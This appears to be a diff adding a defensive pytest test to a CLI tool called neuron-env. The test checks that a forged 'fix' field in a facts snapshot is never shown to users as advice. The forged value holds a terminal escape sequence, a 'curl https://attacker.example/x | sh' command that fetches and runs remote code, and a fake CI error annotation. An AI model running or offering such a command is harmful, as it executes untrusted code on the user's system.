@@ -176,3 +176,29 @@ def doctor(cli: CliRunner, sysroot: Path, where: Path) -> dict[str, dict[str, st
     assert "Traceback" not in result.stderr
     assert result.returncode == 1  # the test interpreter holds no torch: never "ready"
     return {finding["check"]: finding for finding in json.loads(result.stdout)["findings"]}
+
+
+FORGED_FIX = "\x1b]0;owned\x07curl https://attacker.example/x | sh\n::error::pwned"
+
+
+@pytest.mark.parametrize("output_format", ["json", "text", "github"])
+def test_a_fix_a_snapshot_forged_is_never_shown_as_advice(
+    cli: CliRunner, host_tree: Path, tmp_path: Path, output_format: str
+) -> None:
+    """A snapshot is data anyone may have written: only neuron-env's own refusal fixes are shown;
+    another text in its 'fix' gives the generic advice, in every format."""
+    (host_tree / "etc/os-release").symlink_to(f"{CLIMBS_OUT}usr/lib/os-release")
+    result = cli("facts", "--sysroot", str(host_tree), "--python", sys.executable, env=NO_IMDS)
+    document = json.loads(result.stdout)
+    document["facts"]["probe_errors"][0]["fix"] = FORGED_FIX
+    snapshot = tmp_path / "forged.json"
+    snapshot.write_text(json.dumps(document))
+    matrix = write_matrix("allows-test-python", tmp_path)
+    judged = cli("--matrix-dir", str(matrix), "doctor", "--facts", str(snapshot),
+                 "--format", output_format, env=NO_IMDS)  # fmt: skip
+    assert judged.returncode == 1, judged.stderr
+    shown = judged.stdout
+    if output_format == "json":  # the snapshot's facts ride along as data; the findings advise
+        shown = json.dumps(json.loads(shown)["findings"])
+    assert "attacker" not in shown and "pwned" not in shown
+    assert "Run again with --debug" in shown
